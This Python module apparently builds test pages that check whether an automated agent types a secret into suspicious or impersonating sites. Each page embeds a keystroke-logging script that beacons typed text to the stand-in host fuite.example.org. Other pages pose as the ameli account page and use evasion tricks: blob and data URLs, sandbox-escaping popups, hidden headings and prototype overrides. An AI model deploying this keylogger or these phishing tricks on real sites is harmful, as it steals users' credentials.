"""Pages that try to read what a patient types before anything was answered: one maker a kind, all with the same spy."""

# ruff: noqa: E501 (a table of pages)

from __future__ import annotations

import base64
from urllib.parse import quote

TYPED = "zq7x9"
"""What is typed into them: letters that stand nowhere else in these pages."""

SPY = (
    """<script>(() => {
const tell = (what) => { try { navigator.sendBeacon("https://fuite.example.org/leak?" + encodeURIComponent(what)); } catch {} };
const spied = (text) => typeof text === "string" && /[zq7x9]/.test(text) && text.length < 9;
for (const type of ["keydown", "keypress", "keyup", "input", "beforeinput", "textInput", "paste", "drop", "compositionend"])
  for (const target of [window, document]) target.addEventListener(type, (e) => {
    const text = e.key ?? e.data ?? (e.clipboardData ?? e.dataTransfer)?.getData("text/plain");
    if (spied(text)) tell(type + ":" + text); }, true);
setInterval(() => { for (const f of document.querySelectorAll("input, textarea, [contenteditable], .out"))
  if (spied(f.value ?? f.textContent.trim())) tell("value:" + (f.value ?? f.textContent)); }, 15);
window.tell = tell;
})();</"""
    "script>"
)
FIELD = '<label>Mot de passe <input id="secret" type="password"></label>'
FORM = SPY + f"<form>{FIELD}<button>ok</button></form>"
DIGIT = '<input maxlength=1 aria-label="Chiffre">'
HEAD = '<!doctype html><html lang="fr"><meta charset="utf-8"><title>{title}</title>'


def page(body: str, title: str = "Bienvenue") -> str:
    return HEAD.format(title=title) + body


def blob(body: str) -> str:
    """A script's expression: the address of a document made in the page, written so that no tag ends the script."""
    return f'URL.createObjectURL(new Blob([atob("{_encoded(body)}")], {{type: "text/html"}}))'


def _encoded(body: str) -> str:
    return base64.b64encode(page(body).encode()).decode()


FOCUS = "<script>window.focusSecret = () => {focus}</script>"

ASKED_WHATEVER_IT_IS_MADE_OF = {
    "plain form": FORM,
    "autofocus": SPY + '<input id="secret" type="password" autofocus>',
    "late field": SPY + f"<div id=d></div><script>setTimeout(() => (d.innerHTML = `{FIELD}`), 200)</script>",
    "own keyboard handler": FORM
    + "<script>addEventListener('keydown', (e) => tell(e.key.length > 1 ? '' : e.key), true)</script>",
    "contenteditable": SPY + '<div id="secret" contenteditable>&nbsp;</div>',
    "design mode": SPY + "<p id=secret class=out>&nbsp;</p><script>document.designMode = 'on'</script>"
    + FOCUS.format(focus="document.body.focus()"),
    "a div with keydown": SPY + '<div id="secret" tabindex=0>code</div>',
    "one input per digit": SPY + DIGIT.replace("<input", "<input id=secret") + DIGIT * 5,
    "search field": SPY + '<input id="secret" type="search">',
    "label in the next cell": SPY + '<table><tr><td>Mot de passe</td><td><input id="secret"></td></tr></table>',
    "keypad of buttons": SPY + '<p class=out></p><div id=secret tabindex=0></div>'
    + "".join(f"<button class=key onclick=\"document.querySelector('.out').textContent += '{c}'\">{c}</button>" for c in TYPED),
    "EditContext": SPY + "<canvas id=secret tabindex=0></canvas><script>if (window.EditContext) { const c = new EditContext();"
    "secret.editContext = c; c.addEventListener('textupdate', (e) => tell('context:' + e.text)); }</script>",
    "form-associated element": SPY + "<form><x-code id=secret tabindex=0></x-code></form><script>customElements.define('x-code',"
    "class extends HTMLElement { static formAssociated = true; constructor() { super(); this.addEventListener('keydown',"
    "(e) => tell('element:' + e.key)); } })</script>",
    "chat box": SPY + '<textarea id="secret" placeholder="Votre message"></textarea>',
    "e-mail only": SPY + '<input id="secret" type="email">',
    "telephone only": SPY + '<input id="secret" type="tel">',
    "prompt after a click": SPY + '<button id="secret" onclick="tell(prompt(\'Code ?\'))">Code</button>',
    "file": SPY + '<input id="secret" type="file">',
    "closed shadow root": SPY + "<div id=d></div><p id=secret></p><script>const r = d.attachShadow({mode: 'closed'});"
    "r.innerHTML = '<input type=password>'; const i = r.querySelector('input'); window.focusSecret = () => i.focus();"
    "setInterval(() => i.value && tell('closed:' + i.value), 15)</script>",
    "prototype hooks": FORM + "<script>Event.prototype.preventDefault = () => {};"
    "Event.prototype.stopImmediatePropagation = () => {}; EventTarget.prototype.addEventListener = () => {};</script>",
    "full screen and covering layer": FORM + "<style>html { zoom: 3 } body { content-visibility: auto; text-indent: -99em }"
    "</style><div style='position:fixed;inset:0;z-index:2147483647;pointer-events:none'></div>"
    "<script>addEventListener('pointerdown', () => document.documentElement.requestFullscreen())</script>",
    "modal of the page's own": SPY + f"<dialog id=d>{FIELD}</dialog><script>d.showModal()</script>",
    "frozen view transition": FORM + "<script>document.startViewTransition?.(() => new Promise(() => {}))</script>",
    "a small frame": f"<iframe id=f width=260 height=90 srcdoc='{FIELD}'></iframe>" + SPY + "<p id=secret></p>",
    "leave dialog": FORM + "<script>addEventListener('beforeunload', (e) => { tell('zq7x9'); e.preventDefault(); })</script>",
}  # fmt: skip
"""Rows 4, 6, 10 and 12 of the trials: on a suspicious host the page is asked about whatever it is made of."""

DOCUMENTS_WITHOUT_A_REQUEST = {
    "blob at once": f"<script>location = {blob(FORM)}</script>",
    "blob after a click": f"<button id=go onclick='location = {blob(FORM)}'>Suite</button>",
    "blob in a frame": f"<iframe id=f></iframe><script>f.src = {blob(FORM)}</script>",
    "data in a frame": f"<iframe id=f src='data:text/html,{quote(page(FORM))}'></iframe>",
    "sandboxed srcdoc": f"<iframe id=f sandbox='allow-scripts' src='data:text/html;base64,{_encoded(FORM)}'></iframe>",
}  # fmt: skip
"""Rows 1 and 11: what a page makes for itself counts as the page."""

POSING = page(FORM, "ameli - Mon compte")
HIDING = {
    "parts that stand before what a form can do": POSING.replace("<form>", "<form role=textbox>").replace(
        "</form>", "".join(f"<button name={name}></button>" for name in ("checkVisibility", "disabled", "querySelectorAll"))
    ),
    "headings that nobody sees": page("<h1 hidden>Bienvenue</h1>" * 9 + "<h1>ameli - Mon compte</h1>" + FORM),
    "more fields than are told of": POSING.replace("<form>", "<form>" + "<input aria-label=Ville size=1>" * 150),
}  # fmt: skip
"""Posing pages that hide it."""
_BODY = base64.b64encode((FORM + SPY).encode()).decode()
_WHOLE = base64.b64encode(POSING.encode()).decode()
_WRITES = f"w.document.write(atob('{_WHOLE}')); w.document.close();"
POPUPS = {
    "written": f"const w = open(''); {_WRITES}",
    "written twice": f"const w = open(''); {_WRITES} w.document.open(); {_WRITES}",
    "written later under its name": f"open('', 'nom'); setTimeout(() => {{ const w = open('', 'nom'); {_WRITES} }}, 200);",
    "written with another document's hand": "const f = document.createElement('iframe'); document.body.append(f);"
    f"const {{ write }} = f.contentDocument, w = open(''); write.call(w.document, atob('{_WHOLE}')); w.document.close();",
    "javascript: address": f"made = atob('{_WHOLE}'); open('javascript:opener.made');",
    "filled": f"const w = open(''); w.document.title = 'ameli - Mon compte'; w.document.body.innerHTML = atob('{_BODY}');",
    "blob": f"open(URL.createObjectURL(new Blob([atob('{_WHOLE}')], {{type: 'text/html'}})));",
    "blob of a sandboxed frame": "",
    "blob of a sandboxed frame, in a window": ", '', 'width=500,height=400'",
}
AFTER_VERIFIED = "blob of a sandboxed frame, after a verified site"
"""Row 2 and 11: a window that a page opens counts as the page; these say that they are someone."""


def opener(kind: str) -> str:
    """A page that says nothing of itself, with a button that opens a window."""
    if "frame" not in kind:
        return page(f'<button id="go">Ouvrir</button><script>go.onclick = () => {{ {POPUPS[kind]} }}</script>')
    opens = POPUPS["blob"].replace("));", f"){POPUPS.get(kind, '')});")
    if kind == AFTER_VERIFIED:
        opens = f"const w = open('http://www.ameli.fr/'); then.onclick = () => (w.location = {opens[5:-2]})"
    inner = page(
        f'<button id="go">Ouvrir</button><button id=then></button><script>go.onclick = () => {{ {opens} }}</script>'
    )
    return page(
        "<iframe id=f sandbox='allow-scripts allow-popups allow-popups-to-escape-sandbox' width=600 height=300 "
        f"src='data:text/html;base64,{base64.b64encode(inner.encode()).decode()}'></iframe>"
    )
